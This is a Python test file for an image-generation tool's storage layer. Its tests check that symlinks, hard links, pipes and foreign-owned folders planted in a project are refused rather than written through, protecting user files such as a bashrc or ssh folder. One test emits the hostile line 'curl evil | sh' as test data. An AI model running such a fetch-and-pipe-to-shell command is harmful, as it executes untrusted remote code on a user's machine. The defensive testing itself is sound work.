"""Links and pipes in a project that somebody else made: nothing is written through them, and each is named."""

from __future__ import annotations

import errno
import fcntl
import os
from collections.abc import Callable
from pathlib import Path

import pytest

from engine import events
from engine.doctor import examine
from engine.errors import LimnerError, ProjectError
from engine.jobs.folder import EventLog, JobFolder, JobKind, Request
from engine.jobs.gpu_in_use import Card
from engine.jobs.start import start
from engine.project import Project, create_project, open_project
from engine.storage.atomic_files import whole_file, write_bytes, write_text
from engine.storage.file_locks import file_lock
from engine.storage.liveness_locks import NoLocks
from engine.storage.own_files import NotOurs, open_own
from tests.commands.conftest import Run, run  # noqa: F401
from tests.support.small_project import small_project

MINE = "# mine\n"


@pytest.fixture
def mine(tmp_path: Path) -> Path:
    """A file of the user's, outside of the project."""
    path = tmp_path / "bashrc"
    path.write_text(MINE)
    return path


@pytest.fixture
def my_folder(tmp_path: Path) -> Path:
    path = tmp_path / "ssh"
    path.mkdir()
    return path


@pytest.fixture
def project(tmp_path: Path) -> Project:
    return small_project(tmp_path / "theirs", images=2)


def error_of(attempt: Callable[[], object]) -> Exception | None:
    try:
        attempt()
    except (LimnerError, OSError) as error:
        return error
    return None


def half_a_file(path: Path) -> None:
    with whole_file(path) as file:
        file.write(b"half")
        raise RuntimeError


FOLDERS = ["cache", "dataset", "jobs", "pictures", "runs", "jobs/painter", "runs/20261121-1403-jx265", "pictures/grids"]
DEEP = ["jobs/painter/requests", "runs/20261121-1403-jx265/checkpoints", "cache/thumbnails", "dataset/10_a man"]


@pytest.mark.parametrize("name", [*FOLDERS, *DEEP])
def test_a_folder_that_is_a_link_is_refused_by_every_command(
    name: str,
    project: Project,
    my_folder: Path,
    run: Run,  # noqa: F811
) -> None:
    link = project.root / name
    if link.is_dir():
        link.rename(link.with_name("was"))
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(my_folder)
    for words in (("runs",), ("faces", "list"), ("paint", "a", "-o", project.root / "a.png"), ("dataset", "build")):
        assert f"{link} is a link" in run(*words).failure
    assert list(my_folder.iterdir()) == []


@pytest.mark.parametrize("name", ["limner.db", "limner.db-wal", "limner.db-shm", "limner.db-journal"])
@pytest.mark.parametrize("dangling", [False, True])
def test_a_database_that_is_a_link_is_not_opened(name: str, dangling: bool, project: Project, mine: Path) -> None:
    (project.root / name).unlink(missing_ok=True)
    (project.root / name).symlink_to(mine.with_name("not there") if dangling else mine)
    with pytest.raises(NotOurs, match=name):
        open_project(project.root)
    assert mine.read_text() == MINE
    assert not mine.with_name("not there").exists()


@pytest.mark.parametrize("kind", ["link", "dangling", "second name", "pipe", "folder"])
@pytest.mark.parametrize("name", ["events.jsonl", "worker.log", "lock", ".events.jsonl.room", "requests/stop"])
def test_a_job_writes_and_locks_through_nothing_but_plain_files(
    name: str, kind: str, project: Project, mine: Path, my_folder: Path
) -> None:
    job = JobFolder(project.jobs / "painter")
    path = job.path / name
    path.parent.mkdir(parents=True)
    there = mine.with_name("not there")
    {
        "link": lambda: path.symlink_to(mine),
        "dangling": lambda: path.symlink_to(there),
        "second name": lambda: os.link(mine, path),
        "pipe": lambda: os.mkfifo(path),
        "folder": lambda: path.mkdir(),
    }[kind]()
    tries: list[Callable[[], object]] = [
        lambda: start(job.path, JobKind.SCAN, project.root, {"person": None}),
        lambda: EventLog(job.events_path).keep_room(),
        lambda: EventLog(job.events_path).emit(events.Warning("x\ncurl evil | sh\n")),
        lambda: job.ask(Request.STOP),
    ]
    if name == "requests/stop":
        # A start takes old requests away, whatever they are.
        tries = tries[-1:]
    refused = [str(error) for error in map(error_of, tries) if error is not None]
    assert refused
    assert all(str(path) in each for each in refused), refused
    assert job.alive() is False
    assert mine.read_text() == MINE
    assert not there.exists()
    assert not list(my_folder.iterdir())


def test_a_new_project_is_not_made_through_links(tmp_path: Path, my_folder: Path) -> None:
    root = tmp_path / "new"
    root.mkdir()
    (root / "limner.toml").symlink_to(tmp_path / "profile")
    create_project(root)
    assert not (tmp_path / "profile").exists()
    other = tmp_path / "other"
    other.mkdir()
    (other / "limner.db").symlink_to(tmp_path / "profile")
    with pytest.raises(NotOurs):
        create_project(other)
    assert not (tmp_path / "profile").exists()


def test_settings_replace_a_link_and_do_not_write_through_it(project: Project, mine: Path) -> None:
    text = project.settings_path.read_text("utf-8")
    mine.write_text(text)
    project.settings_path.unlink()
    project.settings_path.symlink_to(mine)
    project.change({"training.epochs": 3})
    assert mine.read_text() == text
    assert project.settings.training.epochs == 3


def test_a_file_is_written_whole_or_not_at_all(tmp_path: Path, mine: Path) -> None:
    path = tmp_path / ("n" * 250)
    write_text(path, "old")
    with pytest.raises(RuntimeError):
        half_a_file(path)
    assert path.read_text() == "old"
    write_bytes(path, b"new", durable=False)
    assert path.read_bytes() == b"new"
    link = tmp_path / "link"
    link.symlink_to(mine)
    write_text(link, "over it")
    assert (mine.read_text(), link.is_symlink()) == (MINE, False)
    assert [each.name for each in tmp_path.iterdir() if each.name.endswith(".part")] == []


def test_a_file_in_a_folder_that_is_a_link_is_not_opened(tmp_path: Path, my_folder: Path) -> None:
    (tmp_path / "link").symlink_to(my_folder)
    with pytest.raises(NotOurs, match="link is a link"):
        open_own(tmp_path / "link/file", os.O_WRONLY | os.O_CREAT)
    assert not list(my_folder.iterdir())


def test_a_folder_of_another_user_in_a_project_is_refused(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    real = Path.stat
    project.pictures.mkdir(exist_ok=True)

    def other(path: Path, **more: bool) -> os.stat_result:
        found = real(path, **more)
        return os.stat_result([*found[:4], 4711, *found[5:]]) if path == project.pictures else found

    monkeypatch.setattr(Path, "stat", other)
    with pytest.raises(NotOurs, match="pictures belongs to another user"):
        open_project(project.root)


@pytest.mark.parametrize("number", [errno.EOPNOTSUPP, errno.ENOLCK, errno.ENOSYS])
def test_a_file_system_without_locks_is_named_with_what_to_do(
    number: int,
    project: Project,
    run: Run,  # noqa: F811
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    def refuses(_handle: int, _how: int) -> None:
        raise OSError(number, os.strerror(number))

    monkeypatch.setattr(fcntl, "flock", refuses)
    with pytest.raises(NoLocks), file_lock(project.root):
        pass
    for words in (("train",), ("caption",), ("paint", "a portrait")):
        failure = run(*words).err.splitlines()[-1]
        assert "keeps no locks" in failure, (words, failure)
        assert str(project.root) in failure
        assert "local disk" in failure
    (found,) = [each for each in examine(project.root) if each.name == "locks"]
    assert not found.ok
    assert "keeps no locks" in found.detail
    assert run("runs").code == 0


def test_the_doctor_says_that_locks_work(project: Project) -> None:
    (found,) = [each for each in examine(project.root) if each.name == "locks"]
    assert found.ok


def test_a_cards_lock_is_no_link(tmp_path: Path, mine: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    card = Card("0", tmp_path / "cards")
    path = card._training
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to(mine)
    with pytest.raises(ProjectError, match="is a link"), card.held_for_training():
        pass
    assert mine.read_text() == MINE
